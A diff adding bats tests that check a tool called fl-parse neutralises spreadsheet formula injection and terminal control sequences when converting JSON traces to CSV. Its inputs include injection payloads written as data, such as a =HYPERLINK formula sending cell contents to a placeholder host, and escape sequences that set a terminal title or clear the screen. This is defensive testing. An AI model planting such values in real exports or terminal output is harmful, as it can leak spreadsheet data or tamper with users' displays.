@@ -526,6 +526,42 @@ for row in csv.reader(open("got", newline="")): print(json.dumps(row))'
 ["b", "", "", "false", "timeout", "late", "", "0", "", ""]'
 }
 
+# cells: prints the second line of CSV in got as JSON, without empty cells.
+cells()
+{
+	python3 -c 'import csv, json
+print(json.dumps([c for c in list(csv.reader(open("got", newline="")))[1] if c], ensure_ascii=False))'
+}
+
+@test "no cell of csv is a formula" {
+	local start
+
+	printf '%s\n' '{"trace_id":"@SUM(1)","iteration":-5,"persona":"+1","input":"=HYPERLINK(\"http://e/\"&A1)","output":"-2+3","error":"\t=1","error_kind":"\r\n=1","duration_ms":-1.5}' |
+		fl-parse -f csv >got
+	run -0 cells
+	assert_output $'["\'@SUM(1)", "-5", "\'+1", "\'\\r\\n=1", "\'\\t=1", "-1.5", "0", "\'=HYPERLINK(\\"http://e/\\"&A1)", "\'-2+3"]'
+	for start in ＝ ＋ － ＠ '\n'; do
+		printf '{"trace_id":"t","input":"%s1"}\n' "$start" | fl-parse -f csv >got
+		run -0 cells
+		assert_output "[\"t\", \"0\", \"'${start}1\"]"
+	done
+	# neither text with such a character in it nor a number
+	printf '%s\n' '{"trace_id":"t","iteration":-1e3,"input":"a=1","output":["=1"],"persona":"1-2@x","error":" =","error_kind":"\u0027=1"}' |
+		fl-parse -f csv >got
+	run -0 cells
+	assert_output "[\"t\", \"-1000\", \"1-2@x\", \"'=1\", \" =\", \"0\", \"a=1\", \"[\\\"=1\\\"]\"]"
+}
+
+@test "characters that act on a terminal are escapes in csv" {
+	printf '%s\n' '{"trace_id":"\u001b]0;x\u0007","input":"\u0000\u009b2J\u202e\u200b\u0085\u007f\ufeff=1","output":["\u0085",{"\u001b":"\u2066"}],"error":"a\rb\r\nc\td","persona":"\udb40\udc41 é 👍 \u200d"}' |
+		fl-parse -f csv >got
+	run -0 cells
+	assert_output '["\\u001b]0;x\\u0007", "\\U000e0041 é 👍 ‍", "a\\rb\r\nc\td", "0", "\\u0000\\u009b2J\\u202e\\u200b\\u0085\\u007f\\ufeff=1", "[\"\\u0085\",{\"\\u001b\":\"\\u2066\"}]"]'
+	# in a time that grows with the text only
+	python3 -c 'print("{\"trace_id\":\"t\",\"input\":\"%s\"}" % ("a\\u001b\\r\\n" * 30000))' | timeout 30 fl-parse -f csv >got
+	assert_equal "$(grep -c 'a\\u001b' got)" 30000
+}
+
 @test "sizes and numbers of jobs are checked" {
 	for size in 1M 0 -1 5 4MM x 99999999999G ''; do
 		run --separate-stderr -2 fl-parse --memory "$size" /dev/null
